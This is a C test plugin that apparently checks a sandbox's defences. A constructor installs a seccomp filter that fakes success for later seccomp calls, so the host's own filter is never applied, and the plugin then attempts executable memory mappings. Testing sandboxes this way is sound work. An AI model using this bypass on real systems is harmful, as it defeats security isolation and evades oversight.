// Keeps the host from installing its second filter: a filter of its own, set in a constructor,
// answers seccomp(2) with success without doing anything. Then it maps code, which only the warden
// can still refuse.
#include "evil.h"

#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>

__attribute__((constructor)) static void pretend(void) {
  struct sock_filter code[] = {
      BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
      BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_seccomp, 0, 1),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | 0),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
  };
  struct sock_fprog program = {sizeof code / sizeof *code, code};
  syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_TSYNC, &program);
}

static void attack(void) {
  const int library = open("/lib64/ld-linux-x86-64.so.2", O_RDONLY);
  attempt("mapping code privately",
          mapped(mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, library, 0)));
  attempt("mapping code shared",
          mapped(mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_SHARED, library, 0)));
  attempt("mapping anonymous code",
          mapped(mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0)));
}

EVIL_PLUGIN;
